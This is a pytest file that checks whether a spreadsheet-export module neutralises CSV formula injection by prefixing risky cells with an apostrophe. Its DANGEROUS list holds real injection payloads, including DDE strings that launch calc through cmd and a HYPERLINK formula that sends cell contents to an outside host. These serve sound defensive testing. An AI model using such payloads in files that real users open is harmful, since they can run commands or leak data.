"""No text that leaves for a spreadsheet begins as a formula does, and nothing else is changed."""

import csv
import io

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rnn.export.spreadsheet import harmless, spreadsheet_bytes, to_spreadsheet_csv

# The openings that OWASP lists under "CSV Injection", and disguises of them
DANGEROUS = [
    *("=1+1", "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1", "\n=1", "\tplain", "\rplain"),
    *("＝1+1", "＋1", "－1+1", "＠SUM(1)", "  =1+1", "\u00a0=1", "\u200b=1", "\ufeff=1", '"=1+1', '" =1', "\x00=1"),
    *('=HYPERLINK("http://example.org?"&A1,"x")', "=cmd|'/C calc'!A0", "|cmd", "-", "--", "=", "+49 30 1234", "-1,5x"),
]
HARMLESS = [
    *("", "north", "a=b", "1-2", "e@mail", "'=1", "-3.5", "+7", "-1e-5", "1,5", "-1,5", "Größe", "'", "   ", "°C"),
]


@pytest.mark.parametrize("cell", DANGEROUS)
def test_what_might_run_gets_an_apostrophe(cell: str) -> None:
    assert harmless(cell) == f"'{cell}"
    assert harmless(harmless(cell)) == f"'{cell}"
    text = to_spreadsheet_csv(pd.DataFrame({cell: [cell, "a"], "n": [-1.5, 2.0]}))
    safe = f"'{cell}".replace("\r", "\n")
    assert list(csv.reader(io.StringIO(text, newline=""))) == [[safe, "n"], [safe, "-1.5"], ["a", "2.0"]]


@pytest.mark.parametrize("cell", HARMLESS)
def test_what_cannot_run_stays(cell: str) -> None:
    assert harmless(cell) == cell


def test_numbers_dates_and_gaps_are_written_as_pandas_writes_them() -> None:
    frame = pd.DataFrame(
        {
            "time": pd.date_range("2020-01-01", periods=3, freq="h"),
            "value": [-1.0, np.nan, 1e-300],
            "count": [-1, 0, 2**60],
            "flag": [True, False, True],
            "step": pd.to_timedelta([-1, 0, 1], "h"),
            "kind": pd.Categorical(["a", None, "b"]),
            "text": ["a", None, 'say "x", y'],
        }
    )
    assert to_spreadsheet_csv(frame) == frame.to_csv(index=False, lineterminator="\n")
    assert to_spreadsheet_csv(frame, sep=";", decimal=",") == frame.to_csv(
        index=False, lineterminator="\n", sep=";", decimal=","
    )


def test_a_carriage_return_begins_no_new_cell() -> None:
    frame = pd.DataFrame({"a": ["x\r=1+1", "y\r\n@z"], "b": [1, 2]})
    rows = list(csv.reader(io.StringIO(to_spreadsheet_csv(frame), newline="")))
    assert rows == [["a", "b"], ["x\n=1+1", "1"], ["y\n@z", "2"]]


def test_categories_labels_and_names_of_the_index_are_looked_at() -> None:
    frame = pd.DataFrame(
        {"kind": pd.Categorical(["=1", "b"]), "other": ["x", 5]}, index=pd.Index(["@a", "b"], name="=i")
    )
    assert to_spreadsheet_csv(frame, index=True) == "'=i,kind,other\n'@a,'=1,x\nb,b,5\n"
    assert frame.index.name == "=i" and frame["kind"].iloc[0] == "=1"  # the caller's frame is as it was


def test_bytes_begin_with_the_mark_that_excel_knows() -> None:
    content = spreadsheet_bytes(pd.DataFrame({"Größe": [1]}))
    assert content == b"\xef\xbb\xbf" + "Größe\n1\n".encode()


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(max_size=8), min_size=1, max_size=5))
def test_no_cell_begins_as_a_formula_whatever_the_text(cells: list[str]) -> None:
    frame = pd.DataFrame({"a": pd.Series(cells, dtype="object")})
    rows = list(csv.reader(io.StringIO(to_spreadsheet_csv(frame, quoting=csv.QUOTE_NONNUMERIC), newline="")))
    for cell, (written,) in zip(cells, rows[1:], strict=True):
        plain = cell.replace("\r\n", "\n").replace("\r", "\n")
        assert written in (plain, f"'{plain}")
        bare = written.strip().lstrip('"').strip()
        assert not bare.startswith(("=", "@", "＝", "＠"))
        if bare.startswith(("+", "-")):
            float(bare.replace(",", "."))  # a number and nothing else
